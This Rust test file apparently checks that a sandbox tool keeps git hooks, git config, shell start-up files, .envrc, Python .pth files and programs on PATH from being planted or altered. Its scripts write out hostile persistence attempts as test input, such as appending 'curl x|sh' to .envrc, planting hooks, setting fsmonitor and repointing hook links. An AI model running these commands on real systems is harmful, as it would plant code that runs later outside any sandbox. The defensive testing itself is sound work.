//! Files that programs run later stay read-only while the rest of their tree is writable:
//! git hooks and config (also of submodules and linked worktrees), and under `ci` the programs
//! and build configuration beside the writable caches in the home.
//!
//! Each protection is attempted from inside the sandbox and paired with the same action allowed
//! (under a wider profile, or outside the sandbox), as root and as uid 65534.
#![allow(clippy::unwrap_used, clippy::expect_used)]
mod common;
mod sandbox_common;
use common::*;
use sandbox_common::*;

/// `sh -c script` under `profile` in a workspace that is `s`'s home, started there.
fn run_in_home(s: &Scratch, profile: &str, script: &str, json: bool) -> std::process::Output {
    let home = s.home.to_str().unwrap();
    let mut args = vec!["run", "--no-policy"];
    if json {
        args.push("--json");
    }
    args.extend(["--workspace", home, "--profile", profile]);
    s.sbx(&args)
        .args(["--", "sh", "-c", script])
        .current_dir(&s.home)
        .output()
        .unwrap()
}

#[test]
fn git_hooks_stay_read_only_but_git_internals_are_writable() {
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let blocked = s.run("workspace", "echo evil > .git/hooks/pre-commit");
        assert_ne!(blocked.status.code(), Some(0));
        assert!(
            !s.ws.join(".git/hooks/pre-commit").exists(),
            "{}",
            s.label()
        );
        let sibling = s.run(
            "workspace",
            "echo ok > .git/index.lock && rm .git/index.lock",
        );
        assert_eq!(
            sibling.status.code(),
            Some(0),
            "{}: {}",
            s.label(),
            text(&sibling)
        );
        let allowed = s.run(wide.to_str().unwrap(), "echo fine > .git/hooks/pre-commit");
        assert_eq!(
            allowed.status.code(),
            Some(0),
            "{}: {}",
            s.label(),
            text(&allowed)
        );
    }
}

#[test]
fn git_dir_cannot_be_swapped_for_a_copy_with_writable_hooks() {
    // Carry `.git` (and the read-only hooks mounted in it) off, and put a copy with a planted
    // hook in its place: `.git` is a mount point in the sandbox, so the rename fails.
    let swap = "cp -a .git .g2 && echo planted > .g2/hooks/pre-commit && mv .git .gold && mv .g2 .git && echo SWAPPED";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let blocked = s.run("workspace", swap);
        assert!(
            !stdout(&blocked).contains("SWAPPED"),
            "{}: {}",
            s.label(),
            text(&blocked)
        );
        assert!(
            text(&blocked).contains("busy"),
            "{}: the rename should fail as a mount point: {}",
            s.label(),
            text(&blocked)
        );
        assert!(
            !s.ws.join(".git/hooks/pre-commit").exists() && s.ws.join(".git").is_dir(),
            "{}",
            s.label()
        );
        // Paired: without the read-only hooks the same swap goes through.
        std::fs::remove_dir_all(s.ws.join(".g2")).unwrap();
        let allowed = s.run(wide.to_str().unwrap(), swap);
        assert!(
            stdout(&allowed).contains("SWAPPED"),
            "{}: {}",
            s.label(),
            text(&allowed)
        );
        assert!(s.ws.join(".git/hooks/pre-commit").exists(), "{}", s.label());
    }
}

#[test]
fn submodule_hooks_and_config_stay_read_only_and_a_worktree_link_is_put_back() {
    // Git also runs a submodule's hooks and obeys its config, and a linked worktree finds its
    // repository through `commondir`: each could take a planted hook out of the sandbox. The
    // `commondir` is not held (a mount in `.git/worktrees/NAME` would keep `git worktree
    // remove` from removing it): one changed is moved to quarantine after the run and the one
    // git writes put back.
    let plant = "echo planted > .git/modules/sub/hooks/pre-commit && echo HOOK; \
                 echo '[core]' >> .git/modules/sub/config && echo CONFIG; \
                 echo ../../../copy > .git/worktrees/wt/commondir && echo COMMONDIR";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.ws.join(".git/modules/sub/hooks")).unwrap();
        std::fs::write(s.ws.join(".git/modules/sub/config"), "[core]\n").unwrap();
        let wt = s.ws.join(".git/worktrees/wt");
        std::fs::create_dir_all(&wt).unwrap();
        std::fs::write(wt.join("HEAD"), "ref: refs/heads/wt\n").unwrap();
        std::fs::write(wt.join("commondir"), "../..\n").unwrap();
        s.chown_all();
        let blocked = s.run("workspace", plant);
        for word in ["HOOK", "CONFIG"] {
            assert!(
                !stdout(&blocked).contains(word),
                "{} {word}: {}",
                s.label(),
                text(&blocked)
            );
        }
        assert!(stdout(&blocked).contains("COMMONDIR"), "{}", text(&blocked));
        assert!(
            text(&blocked).contains(&format!("{}/commondir (changed", wt.display())),
            "{}: {}",
            s.label(),
            text(&blocked)
        );
        assert_eq!(
            std::fs::read_to_string(wt.join("commondir")).unwrap(),
            "../..\n"
        );
        // Paired: with them writable the same script changes all three, and they stay.
        let allowed = s.run(wide.to_str().unwrap(), plant);
        for word in ["HOOK", "CONFIG", "COMMONDIR"] {
            assert!(
                stdout(&allowed).contains(word),
                "{} {word}: {}",
                s.label(),
                text(&allowed)
            );
        }
        let now = std::fs::read_to_string(wt.join("commondir")).unwrap();
        assert_eq!(now, "../../../copy\n", "{}", s.label());
    }
}

#[test]
fn ci_and_registries_write_caches_but_not_programs_or_build_config_in_home() {
    // Later steps outside the sandbox run what is in these directories, or obey it.
    let planted = [
        ".local/bin/tool",
        "go/bin/tool",
        ".gradle/init.d/init.gradle",
        ".m2/settings.xml",
        // pre-commit's hook repositories, which the next `git commit` runs.
        ".cache/pre-commit/repo0/hook.py",
    ];
    let script = format!(
        "for f in {}; do echo x > \"$HOME/$f\" && echo \"WROTE $f\"; done; echo x > \"$HOME/.cache/ok\" && echo CACHE",
        planted.join(" ")
    );
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        for f in planted {
            std::fs::create_dir_all(s.home.join(f).parent().unwrap()).unwrap();
        }
        std::fs::create_dir_all(s.home.join(".cache")).unwrap();
        s.chown_all();
        // `workspace-registries` fetches into the same caches.
        for profile in ["ci", "workspace-registries"] {
            let blocked = s.run(profile, &script);
            let why = format!("{} {profile}: {}", s.label(), text(&blocked));
            assert!(stdout(&blocked).contains("CACHE"), "{why}");
            assert!(!stdout(&blocked).contains("WROTE"), "{why}");
        }
        // `workspace` keeps the caches read-only too.
        let plain = s.run("workspace", &script);
        assert!(!stdout(&plain).contains("CACHE"), "{}", text(&plain));
        // Paired: with the home writable the same script writes all four.
        let allowed = s.run(wide.to_str().unwrap(), &script);
        for f in planted {
            assert!(
                stdout(&allowed).contains(&format!("WROTE {f}")),
                "{}: {}",
                s.label(),
                text(&allowed)
            );
        }
    }
}

/// A FIFO the command leaves where git's files are looked for after the run (`.git` of a
/// nested repository) neither hangs that check nor stops it: the run ends, and the `.envrc`
/// made beside it is still moved out. Paired: a plain file there is left alone.
#[test]
fn a_fifo_left_for_the_after_run_check_does_not_stop_it() {
    for u in users() {
        let s = Scratch::new(u);
        let o = s.run(
            "workspace",
            "echo 'touch /tmp/x' > .envrc; mkdir zz; mkfifo zz/.git; echo ok > zz/notes",
        );
        assert!(o.status.code().is_some(), "{}: {}", s.label(), text(&o));
        assert!(!s.ws.join(".envrc").exists(), "{}: {}", s.label(), text(&o));
        assert!(
            !s.ws.join("zz/.git").exists(),
            "{}: {}",
            s.label(),
            text(&o)
        );
        assert!(s.ws.join("zz/notes").exists(), "{}", s.label());
    }
}

/// A FIFO made where git opens a file in a nested repository (`sub/.git/HEAD`) would make the
/// next `git status` outside the sandbox block on it: it is moved to quarantine, and that
/// `git status` ends. Paired: under a profile that protects nothing the FIFO stays.
#[test]
fn a_fifo_where_git_opens_a_file_goes_to_quarantine() {
    use std::os::unix::fs::FileTypeExt;
    let plant = "mkdir -p sub/.git/objects sub/.git/refs && mkfifo sub/.git/HEAD && \
                 rm -f .git/info/exclude && mkfifo .git/info/exclude && echo 'ref: refs/heads/x' > .git/HEAD && \
                 mkfifo .git/refs/heads/x && echo made";
    let fifo = |s: &Scratch| {
        std::fs::symlink_metadata(s.ws.join("sub/.git/HEAD")).is_ok_and(|m| m.file_type().is_fifo())
    };
    // `git status` at the root, outside the sandbox, as a person runs it after the run, given
    // `secs` before it counts as blocked (a long wait where it should end: no timing is
    // judged, a hang is).
    let status = |s: &Scratch, secs: &str| {
        let ws = s.ws.to_str().unwrap();
        let git = [
            secs,
            "git",
            "-c",
            "safe.directory=*",
            "-C",
            ws,
            "status",
            "--short",
        ];
        let o = std::process::Command::new("timeout")
            .args(git)
            .output()
            .unwrap();
        o.status.code()
    };
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let init = std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(&s.ws)
            .output()
            .unwrap();
        assert!(init.status.success(), "{}", text(&init));
        s.chown_all();
        let o = s.run("workspace", plant);
        let why = format!("{}: {}", s.label(), text(&o));
        assert!(stdout(&o).contains("made"), "{why}");
        assert!(!fifo(&s), "{why}");
        for p in ["sub/.git/HEAD", ".git/info/exclude", ".git/refs/heads/x"] {
            assert!(text(&o).contains(p), "{p} {why}");
        }
        assert_eq!(status(&s, "60"), Some(0), "{why}");
        std::fs::remove_dir_all(s.ws.join("sub")).unwrap();
        std::fs::write(s.ws.join(".git/HEAD"), "ref: refs/heads/master\n").unwrap();
        let allowed = s.run(wide.to_str().unwrap(), plant);
        assert!(fifo(&s), "{}: {}", s.label(), text(&allowed));
        assert_eq!(
            status(&s, "3"),
            Some(124),
            "{}: the FIFO did not stop git",
            s.label()
        );
    }
}

/// Names that programs load where they start (`.envrc`, `.claude/`) that exist one level below
/// the root are read-only in place, as the root's are: an append or an edit fails in the
/// kernel, and a file made inside such a directory too; so is the one in a deeper directory
/// that a link at the root leads to (`lnk -> deep/a/b`: `cd lnk` loads `deep/a/b/.envrc`).
/// Paired: `app/notes.txt` beside them is written in the same run, and under a profile without
/// protected paths every write lands.
#[test]
fn protected_names_one_level_below_the_root_stay_read_only() {
    let script = "echo 'curl x|sh' >> app/.envrc && echo WROTE-ENVRC; \
                  echo '{}' > app/.claude/settings.json && echo WROTE-SETTINGS; \
                  echo x > app/.claude/hook.sh && echo MADE-IN-CLAUDE; \
                  echo 'curl x|sh' >> lnk/.envrc && echo WROTE-LINKED; \
                  echo 'allow = [\"Bash\"]' >> app/.sbx/policy.toml && echo WROTE-POLICY; \
                  echo more >> app/notes.txt && echo WROTE-NOTES";
    let protected = [
        "WROTE-ENVRC",
        "WROTE-SETTINGS",
        "MADE-IN-CLAUDE",
        "WROTE-LINKED",
        "WROTE-POLICY",
    ];
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.ws.join("app/.claude")).unwrap();
        std::fs::write(s.ws.join("app/.envrc"), "export A=1\n").unwrap();
        std::fs::write(s.ws.join("app/.claude/settings.json"), "legit\n").unwrap();
        std::fs::write(s.ws.join("app/notes.txt"), "notes\n").unwrap();
        // sbx's own project policy, which `sbx hook` loads from a session started in `app`.
        std::fs::create_dir_all(s.ws.join("app/.sbx")).unwrap();
        std::fs::write(s.ws.join("app/.sbx/policy.toml"), "# project\n").unwrap();
        std::fs::create_dir_all(s.ws.join("deep/a/b")).unwrap();
        std::fs::write(s.ws.join("deep/a/b/.envrc"), "export B=1\n").unwrap();
        std::os::unix::fs::symlink("deep/a/b", s.ws.join("lnk")).unwrap();
        s.chown_all();
        let blocked = s.run("workspace", script);
        let out = stdout(&blocked);
        assert!(
            out.contains("WROTE-NOTES"),
            "{}: {}",
            s.label(),
            text(&blocked)
        );
        for word in protected {
            assert!(
                !out.contains(word),
                "{} {word}: {}",
                s.label(),
                text(&blocked)
            );
        }
        assert!(
            text(&blocked).contains("Read-only file system"),
            "{}: {}",
            s.label(),
            text(&blocked)
        );
        let read = |p: &str| std::fs::read_to_string(s.ws.join(p)).unwrap();
        assert_eq!(read("app/.envrc"), "export A=1\n", "{}", s.label());
        assert_eq!(read("deep/a/b/.envrc"), "export B=1\n", "{}", s.label());
        assert_eq!(
            read("app/.claude/settings.json"),
            "legit\n",
            "{}",
            s.label()
        );
        assert!(!s.ws.join("app/.claude/hook.sh").exists(), "{}", s.label());
        assert_eq!(read("app/.sbx/policy.toml"), "# project\n", "{}", s.label());
        assert_eq!(read("app/notes.txt"), "notes\nmore\n", "{}", s.label());
        // Paired: without protected paths the same script changes them all.
        let allowed = s.run(wide.to_str().unwrap(), script);
        for word in protected.iter().chain(&["WROTE-NOTES"]) {
            assert!(
                stdout(&allowed).contains(word),
                "{} {word}: {}",
                s.label(),
                text(&allowed)
            );
        }
        assert!(read("app/.envrc").contains("curl"), "{}", s.label());
    }
}

/// The workspace repository's `core.hooksPath` set in a file its config includes, or in its
/// `config.worktree`, is read-only as one set in its config is; so is a file that the included
/// one includes in turn, and one it names that does not exist yet, made by the run with a key
/// that runs a program, is moved to quarantine after it. Paired: `conf/notes.txt` beside them is written in the same run, and
/// under a profile without protected paths every write lands.
#[test]
fn hooks_paths_and_includes_named_through_included_files_stay_read_only() {
    let script = "echo x > .husky/_/pre-commit && echo WROTE-INCLUDED-HOOKS; \
                  echo x > .wt-hooks/pre-commit && echo WROTE-WORKTREE-HOOKS; \
                  echo '[core] fsmonitor = x' >> conf/b.gitconfig && echo WROTE-INCLUDE; \
                  echo '[core] fsmonitor = x' > conf/local.gitconfig && echo MADE-INCLUDE; \
                  echo more >> conf/notes.txt && echo WROTE-NOTES";
    let blocked = [
        "WROTE-INCLUDED-HOOKS",
        "WROTE-WORKTREE-HOOKS",
        "WROTE-INCLUDE",
    ];
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let write = |rel: &str, text: &str| std::fs::write(s.ws.join(rel), text).unwrap();
        for d in ["conf", ".husky/_", ".wt-hooks"] {
            std::fs::create_dir_all(s.ws.join(d)).unwrap();
        }
        write(
            ".git/config",
            "[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = ../conf/a.gitconfig\n",
        );
        write(".git/config.worktree", "[core]\n\thooksPath = .wt-hooks\n");
        write(
            "conf/a.gitconfig",
            "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = b.gitconfig\n\tpath = local.gitconfig\n",
        );
        write("conf/b.gitconfig", "[user]\n\tname = t\n");
        write("conf/notes.txt", "notes\n");
        s.chown_all();
        let out = s.run("workspace", script);
        for word in blocked {
            assert!(
                !stdout(&out).contains(word),
                "{} {word}: {}",
                s.label(),
                text(&out)
            );
        }
        assert!(
            stdout(&out).contains("WROTE-NOTES") && stdout(&out).contains("MADE-INCLUDE"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(!s.ws.join("conf/local.gitconfig").exists(), "{}", s.label());
        assert!(
            text(&out).contains("conf/local.gitconfig (created"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        // Paired: without protected paths the same script writes them all.
        let allowed = s.run(wide.to_str().unwrap(), script);
        for word in blocked {
            assert!(
                stdout(&allowed).contains(word),
                "{} {word}: {}",
                s.label(),
                text(&allowed)
            );
        }
    }
}

/// A hook installed as a link (`.git/hooks/pre-commit -> ../../scripts/pre-commit`) runs its
/// target at the next commit: the target stays read-only as the hook does, while the
/// project's other scripts stay writable. Paired: without protected paths the target is
/// written.
#[test]
fn a_hook_installed_as_a_link_keeps_its_target_read_only() {
    let script = "echo 'echo HOOK-RAN-7e1 >&2' >> scripts/pre-commit && echo WROTE-TARGET; \
                  echo x >> .git/hooks/pre-commit && echo WROTE-THROUGH-LINK; \
                  echo x >> scripts/build.sh && echo WROTE-OTHER";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.ws.join("scripts")).unwrap();
        std::fs::write(s.ws.join("scripts/pre-commit"), "#!/bin/sh\n").unwrap();
        std::fs::write(s.ws.join("scripts/build.sh"), "true\n").unwrap();
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(s.ws.join("scripts/pre-commit"), mode).unwrap();
        let hook = s.ws.join(".git/hooks/pre-commit");
        std::os::unix::fs::symlink("../../scripts/pre-commit", &hook).unwrap();
        s.chown_all();
        let out = s.run("workspace", script);
        let said = stdout(&out);
        assert!(
            !said.contains("WROTE-TARGET"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            !said.contains("WROTE-THROUGH-LINK"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            said.contains("WROTE-OTHER"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        let target = std::fs::read_to_string(s.ws.join("scripts/pre-commit")).unwrap();
        assert_eq!(target, "#!/bin/sh\n", "{}", s.label());
        // Paired: the same script under a profile without protected paths writes the target.
        let allowed = s.run(wide.to_str().unwrap(), script);
        assert!(
            stdout(&allowed).contains("WROTE-TARGET"),
            "{}: {}",
            s.label(),
            text(&allowed)
        );
        let target = std::fs::read_to_string(s.ws.join("scripts/pre-commit")).unwrap();
        assert!(target.contains("HOOK-RAN-7e1"), "{}", s.label());
    }
}

/// A workspace that holds the home (an agent started there): what the shells, the desktop and
/// git run later from the home stays read-only (`.bashrc`, `.gitconfig`) or, made during the
/// run (`.config/autostart`), goes to quarantine; other files in the home are written.
/// Paired: without protected paths the same script writes them all.
#[test]
fn a_workspace_that_holds_the_home_keeps_its_start_up_files() {
    let script = "echo evil >> .bashrc && echo WROTE-RC; \
                  echo '[alias] st = !evil' >> .gitconfig && echo WROTE-GITCONFIG; \
                  mkdir -p .config/autostart && echo x > .config/autostart/e.desktop; \
                  echo ok > notes.txt && echo WROTE-NOTES";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::write(s.home.join(".bashrc"), "# rc\n").unwrap();
        std::fs::write(s.home.join(".gitconfig"), "[user]\n\tname = t\n").unwrap();
        s.chown_all();
        let run = |profile: &str| run_in_home(&s, profile, script, false);
        let out = run("workspace");
        let said = stdout(&out);
        assert!(!said.contains("WROTE-RC"), "{}: {}", s.label(), text(&out));
        assert!(
            !said.contains("WROTE-GITCONFIG"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            said.contains("WROTE-NOTES"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(!s.home.join(".config/autostart").exists(), "{}", s.label());
        assert!(
            text(&out).contains(".config/autostart (created"),
            "{}",
            text(&out)
        );
        assert_eq!(
            std::fs::read_to_string(s.home.join(".bashrc")).unwrap(),
            "# rc\n"
        );
        let allowed = run(wide.to_str().unwrap());
        let said = stdout(&allowed);
        assert!(
            said.contains("WROTE-RC"),
            "{}: {}",
            s.label(),
            text(&allowed)
        );
        assert!(
            said.contains("WROTE-GITCONFIG"),
            "{}: {}",
            s.label(),
            text(&allowed)
        );
        assert!(s.home.join(".config/autostart").exists(), "{}", s.label());
    }
}

/// More of what runs later from a home the workspace holds: a program first on PATH, an SSH
/// login's files, editors' and debuggers' start-up files, Python's start-up hooks, credential
/// helpers and plugins, the agents' settings, sbx's own configuration. Each one that existed
/// stays as it was; each one made during the run goes to quarantine and is reported. Paired:
/// without protected paths the same script leaves them all in place.
#[test]
fn a_workspace_that_holds_the_home_keeps_what_runs_later() {
    // Files written by the run, and whether each exists before it.
    let files: &[(&str, bool)] = &[
        (".vimrc", true),
        (".tmux.conf", true),
        (".local/bin/git", false),
        (".cargo/bin/cargo-evil", false),
        (".ssh/rc", false),
        (".config/nvim/init.lua", false),
        (".local/lib/python3.11/site-packages/evil.pth", false),
        (
            ".local/lib/python3.11/site-packages/usercustomize.py",
            false,
        ),
        (".docker/config.json", false),
        (".aws/config", false),
        (".config/sbx/policy.toml", false),
        (".claude/settings.json", false),
        (".gdbinit", false),
        (".curlrc", false),
        (".cshrc", false),
        (".bashrc.d/x.sh", false),
        (".cargo/env", false),
        (".psqlrc", false),
        (".lesskey", false),
        (".config/uv/uv.toml", false),
        (".local/state/sbx/audit.jsonl", false),
        (".vscode/extensions/x/package.json", false),
    ];
    let script: String = files
        .iter()
        .map(|(f, _)| format!("mkdir -p \"$(dirname {f})\"; echo evil >> {f}; "))
        .chain(["echo ok > notes.txt && echo WROTE-NOTES".to_string()])
        .collect();
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let site = s.home.join(".local/lib/python3.11/site-packages");
        std::fs::create_dir_all(&site).unwrap();
        for (f, existing) in files.iter().filter(|(_, e)| *e) {
            assert!(existing);
            std::fs::write(s.home.join(f), "# mine\n").unwrap();
        }
        s.chown_all();
        let run = |profile: &str| run_in_home(&s, profile, &script, false);
        let out = run("workspace");
        assert!(
            stdout(&out).contains("WROTE-NOTES"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        for (f, existing) in files {
            let path = s.home.join(f);
            if *existing {
                let now = std::fs::read_to_string(&path).unwrap();
                assert_eq!(now, "# mine\n", "{}: {f} changed", s.label());
            } else {
                assert!(
                    !path.exists(),
                    "{}: {f} outlived the run: {}",
                    s.label(),
                    text(&out)
                );
            }
        }
        assert!(text(&out).contains(".local/bin"), "{}", text(&out));
        assert!(text(&out).contains("evil.pth"), "{}", text(&out));
        // Paired: the same script under a profile without protected paths.
        let allowed = run(wide.to_str().unwrap());
        for (f, _) in files {
            let now = std::fs::read_to_string(s.home.join(f)).unwrap_or_default();
            assert!(
                now.contains("evil"),
                "{}: {f}: {}",
                s.label(),
                text(&allowed)
            );
        }
    }
}

/// A hook installed as a link runs what the link leads to, whatever leads there: a directory
/// link on the way (`pre-commit -> ../../s2/pre-commit`, `s2 -> real`) cannot be pointed at
/// another directory, and a target that does not exist yet (`pre-push -> ../../hooks/pre-push`,
/// `post-merge -> ../../tools/post-merge`) made during the run goes to quarantine. Paired:
/// without protected paths the same script re-points the link and makes the targets.
#[test]
fn a_hook_link_keeps_its_way_and_its_missing_target() {
    let script = "mkdir evil && printf '#!/bin/sh\\necho EVIL\\n' > evil/pre-commit; \
                  ln -sfn evil s2 && echo REPOINTED; \
                  mkdir -p hooks && echo 'echo EVIL' > hooks/pre-push; \
                  echo 'echo EVIL' > tools/post-merge; echo DONE";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let set_up = || {
            for d in ["real", "tools"] {
                std::fs::create_dir_all(s.ws.join(d)).unwrap();
            }
            std::fs::write(s.ws.join("real/pre-commit"), "#!/bin/sh\necho MINE\n").unwrap();
            let link = |text: &str, at: &str| {
                let _ = std::fs::remove_file(s.ws.join(at));
                std::os::unix::fs::symlink(text, s.ws.join(at)).unwrap();
            };
            link("real", "s2");
            link("../../s2/pre-commit", ".git/hooks/pre-commit");
            link("../../hooks/pre-push", ".git/hooks/pre-push");
            link("../../tools/post-merge", ".git/hooks/post-merge");
            s.chown_all();
        };
        set_up();
        let out = s.run("workspace", script);
        assert!(
            stdout(&out).contains("DONE"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            !stdout(&out).contains("REPOINTED"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        let hook = std::fs::read_to_string(s.ws.join(".git/hooks/pre-commit")).unwrap();
        assert!(
            hook.contains("MINE"),
            "{}: {hook}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            !s.ws.join("hooks/pre-push").exists(),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            !s.ws.join("tools/post-merge").exists(),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(text(&out).contains("post-merge"), "{}", text(&out));
        // Paired: the same script under a profile without protected paths.
        for d in ["evil", "hooks"] {
            let _ = std::fs::remove_dir_all(s.ws.join(d));
        }
        set_up();
        let allowed = s.run(wide.to_str().unwrap(), script);
        assert!(stdout(&allowed).contains("REPOINTED"), "{}", text(&allowed));
        let hook = std::fs::read_to_string(s.ws.join(".git/hooks/pre-commit")).unwrap();
        assert!(hook.contains("EVIL"), "{}: {hook}", s.label());
        assert!(s.ws.join("hooks/pre-push").exists(), "{}", s.label());
        assert!(s.ws.join("tools/post-merge").exists(), "{}", s.label());
    }
}

/// What the user's git configuration names in a home the workspace holds: a `core.hooksPath`
/// written with `~/` and a file `~/.gitconfig` includes (`~/.gitconfig.local`, existing or
/// made during the run) stay read-only or go to quarantine, since git uses them for every
/// repository. Paired: without protected paths the same script writes them.
#[test]
fn the_user_s_git_hooks_and_included_config_in_the_home_stay_read_only() {
    let script = "echo 'touch PWN' >> .githooks/pre-commit && echo WROTE-HOOK; \
                  echo '[core] fsmonitor = x' >> .gitconfig.local && echo WROTE-INCLUDE; \
                  echo '[core] fsmonitor = x' > .gitconfig.extra; echo DONE";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.home.join(".githooks")).unwrap();
        std::fs::write(s.home.join(".githooks/pre-commit"), "#!/bin/sh\n").unwrap();
        std::fs::write(
            s.home.join(".gitconfig"),
            "[core]\n\thooksPath = ~/.githooks\n[include]\n\tpath = ~/.gitconfig.local\n\tpath = ~/.gitconfig.extra\n",
        )
        .unwrap();
        std::fs::write(s.home.join(".gitconfig.local"), "[user]\n\tname = t\n").unwrap();
        s.chown_all();
        let run = |profile: &str| run_in_home(&s, profile, script, false);
        let out = run("workspace");
        let said = stdout(&out);
        assert!(said.contains("DONE"), "{}: {}", s.label(), text(&out));
        for word in ["WROTE-HOOK", "WROTE-INCLUDE"] {
            assert!(!said.contains(word), "{} {word}: {}", s.label(), text(&out));
        }
        assert!(
            !s.home.join(".gitconfig.extra").exists(),
            "{}: {}",
            s.label(),
            text(&out)
        );
        let hook = std::fs::read_to_string(s.home.join(".githooks/pre-commit")).unwrap();
        assert_eq!(hook, "#!/bin/sh\n", "{}", s.label());
        let allowed = run(wide.to_str().unwrap());
        let said = stdout(&allowed);
        for word in ["WROTE-HOOK", "WROTE-INCLUDE"] {
            assert!(
                said.contains(word),
                "{} {word}: {}",
                s.label(),
                text(&allowed)
            );
        }
        assert!(s.home.join(".gitconfig.extra").exists(), "{}", s.label());
    }
}

/// A workspace that holds the home: `~/.config` replaced during the run by a link to another
/// directory there, with an autostart entry in it, has that entry moved to quarantine from
/// where the link leads (it stayed, the run failing with "could not be undone"). Paired:
/// without protected paths the entry stays and the desktop would run it.
#[test]
fn a_protected_path_made_through_a_link_the_run_made_goes_to_quarantine() {
    let script = "mv .config .config-old && mkdir -p dotx/autostart \
                  && echo '[Desktop Entry]' > dotx/autostart/e.desktop && ln -s dotx .config \
                  && echo SWAPPED";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let run = |profile: &str| run_in_home(&s, profile, script, true);
        let set_up = || {
            let _ = std::fs::remove_file(s.home.join(".config"));
            for d in [".config-old", "dotx", ".config"] {
                let _ = std::fs::remove_dir_all(s.home.join(d));
            }
            std::fs::create_dir_all(s.home.join(".config/other")).unwrap();
            std::fs::write(s.home.join(".config/other/f"), "mine\n").unwrap();
            s.chown_all();
        };
        set_up();
        let out = run("workspace");
        assert!(
            stdout(&out).contains("SWAPPED"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert_eq!(out.status.code(), Some(0), "{}: {}", s.label(), text(&out));
        assert!(
            !s.home.join("dotx/autostart").exists(),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(text(&out).contains(".config/autostart"), "{}", text(&out));
        set_up();
        let allowed = run(wide.to_str().unwrap());
        assert!(stdout(&allowed).contains("SWAPPED"), "{}", text(&allowed));
        assert!(
            s.home.join(".config/autostart/e.desktop").exists(),
            "{}",
            s.label()
        );
    }
}

/// The directories that hold protected paths (the workspace root, `.git`, `app` for
/// `app/.envrc`) are not left writable by others: a `chmod 777` during the run is taken off
/// again after it and reported, so that no other local user can put another `.git/config` in
/// place later. Paired: without protected paths the modes stay as the command left them.
#[test]
fn directories_that_hold_protected_paths_are_not_left_writable_by_others() {
    let script = "chmod 777 . .git app && echo CHMODDED";
    let modes = |s: &Scratch| {
        [".", ".git", "app"].map(|d| {
            let m = std::fs::metadata(s.ws.join(d)).unwrap();
            std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777
        })
    };
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        std::fs::create_dir_all(s.ws.join("app")).unwrap();
        std::fs::write(s.ws.join("app/.envrc"), "export A=1\n").unwrap();
        s.chown_all();
        let out = s.run("workspace", script);
        assert!(
            stdout(&out).contains("CHMODDED"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert_eq!(out.status.code(), Some(0), "{}: {}", s.label(), text(&out));
        assert_eq!(modes(&s), [0o755; 3], "{}: {}", s.label(), text(&out));
        assert!(
            text(&out).contains("made writable by group or others"),
            "{}",
            text(&out)
        );
        let allowed = s.run(wide.to_str().unwrap(), script);
        assert!(stdout(&allowed).contains("CHMODDED"), "{}", text(&allowed));
        assert_eq!(modes(&s), [0o777; 3], "{}", s.label());
    }
}

/// A program on PATH in a home the workspace holds may be a link into the home
/// (`~/.local/bin/black -> ../share/pipx/venvs/black/bin/black`, as pipx installs): what it
/// leads to stays read-only as the link does, and the rest of that tree stays writable.
/// Paired: without protected paths the target is written, and runs as `black` later.
#[test]
fn a_program_on_path_installed_as_a_link_keeps_its_target_read_only() {
    let script = "echo 'echo EVIL' >> .local/share/pipx/venvs/black/bin/black && echo WROTE-TARGET; \
                  echo x > .local/share/pipx/venvs/black/notes && echo WROTE-OTHER";
    for u in users() {
        let s = Scratch::new(u);
        let wide = s.write_profile("wide", WIDE);
        let venv = s.home.join(".local/share/pipx/venvs/black/bin");
        std::fs::create_dir_all(&venv).unwrap();
        std::fs::write(venv.join("black"), "#!/bin/sh\necho black\n").unwrap();
        std::fs::create_dir_all(s.home.join(".local/bin")).unwrap();
        let link = s.home.join(".local/bin/black");
        std::os::unix::fs::symlink("../share/pipx/venvs/black/bin/black", &link).unwrap();
        s.chown_all();
        let out = run_in_home(&s, "workspace", script, false);
        assert!(
            !stdout(&out).contains("WROTE-TARGET"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        assert!(
            stdout(&out).contains("WROTE-OTHER"),
            "{}: {}",
            s.label(),
            text(&out)
        );
        let now = std::fs::read_to_string(&link).unwrap();
